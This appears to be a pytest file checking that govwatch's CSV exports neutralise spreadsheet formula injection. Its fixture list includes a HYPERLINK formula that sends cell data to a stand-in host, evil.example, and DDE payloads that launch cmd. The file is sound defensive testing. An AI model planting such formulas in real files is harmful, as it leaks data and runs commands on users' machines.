"""Every CSV govwatch writes neutralises spreadsheet formulas (issue 18 item 9, OWASP CSV
injection): text starting with = + - @, a tab or a carriage return gets a leading apostrophe.

The exports: the public results download (web, both engines), ``govwatch audit --format csv``
and ``govwatch calendar notice`` (command line, real processes). govwatch writes no XLSX today;
:func:`govwatch.exports.neutralise_row` is what one must use."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import orjson
import pytest
from fastapi.testclient import TestClient

from govwatch.exports import neutralise, neutralise_row
from govwatch.storage import connect
from govwatch.web.app import create_app
from tests.web.seed import seed_round

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


def test_other_cells_are_left_as_they_are() -> None:
    assert neutralise_row(["市场监管局", "D1", "", -3, 86.5, None, "a=b", " =1", "'=1"]) == [
        "市场监管局",
        "D1",
        "",
        -3,  # a number is not text: a negative score stays a number
        86.5,
        None,
        "a=b",
        " =1",
        "'=1",
    ]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_public_results_csv_writes_hostile_unit_names_as_text(db_url: str) -> None:
    db = connect(db_url)
    try:
        seed_round(db)
        db.execute("UPDATE eval_units SET unit_name = ? WHERE unit = 'D1'", [HOSTILE[0]])
        db.execute("UPDATE eval_units SET unit_name = ? WHERE unit = 'D2'", [HOSTILE[3]])
    finally:
        db.close()
    with TestClient(create_app(db_url)) as client:
        answer = client.get("/public/rounds/2025Q3.csv")
    assert answer.status_code == 200
    rows = read_csv(answer.text)
    assert rows[0][:2] == ["单位编码", "单位名称"]
    assert {r[0]: r[1] for r in rows[1:]} == {"D1": "'" + HOSTILE[0], "D2": "'" + HOSTILE[3]}
    assert rows[1][3] == "86.5"  # scores stay numbers


def govwatch(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "govwatch.cli", *args],
        capture_output=True,
        text=True,
        check=False,
        cwd=cwd,
    )


def test_audit_csv_writes_hostile_case_ids_and_names_as_text(tmp_path: Path) -> None:
    item = {
        "item_code": "ITEM-D1",
        "name": "食品经营许可",
        "department_code": "D1",
        "department_name": "市场监管局",
        "region_code": "330102",
        "case_kind": "2",
        "legal_limit": 20,
        "promised_limit": 10,
    }
    (tmp_path / "catalog.jsonl").write_bytes(orjson.dumps(item) + b"\n")
    events = []
    for n, case_id in enumerate((HOSTILE[0], HOSTILE[2], "+7"), start=1):
        for kind, hour in (("apply", 9), ("accept", 10)):
            events.append(
                {
                    "case_id": case_id,
                    "event_id": f"e{n}{kind}",
                    "kind": kind,
                    "item_code": "ITEM-D1",
                    "occurred_at": f"2025-09-01T{hour:02d}:00:00+08:00",
                    "applicant_type": "1",
                    "channel": "1",
                }
            )
    (tmp_path / "events.jsonl").write_bytes(b"\n".join(orjson.dumps(e) for e in events) + b"\n")
    answer = govwatch(
        "audit",
        "--catalog",
        "catalog.jsonl",
        "--events",
        "events.jsonl",
        "--at",
        "2025-12-01T10:00:00",
        "--format",
        "csv",
        cwd=tmp_path,
    )
    assert answer.returncode == 0, answer.stderr
    rows = read_csv(answer.stdout)
    assert rows[0][0] == "case_id"
    overdue = {r[0] for r in rows[1:] if r[1] == "case_overdue"}
    assert overdue == {"'" + HOSTILE[0], "'" + HOSTILE[2], "'+7"}
    assert all(not r[0].startswith(("=", "+", "-", "@")) for r in rows[1:])


def test_calendar_notice_csv_writes_a_hostile_festival_name_as_text(tmp_path: Path) -> None:
    text = (ROOT / "tests/calendar/fixtures/notice-2026.txt").read_text(encoding="utf-8")
    hostile = text.replace("一、元旦", "一、=HYPERLINK节", 1)
    assert hostile != text
    (tmp_path / "notice.txt").write_text(hostile, encoding="utf-8")
    answer = govwatch("calendar", "notice", "notice.txt", cwd=tmp_path)
    assert answer.returncode == 0, answer.stderr
    rows = read_csv(answer.stdout)
    assert rows[0] == ["date", "type", "name"]
    assert rows[1] == ["2026-01-01", "holiday", "'=HYPERLINK节"]
    assert all(not r[2].startswith(("=", "+", "-", "@")) for r in rows[1:])
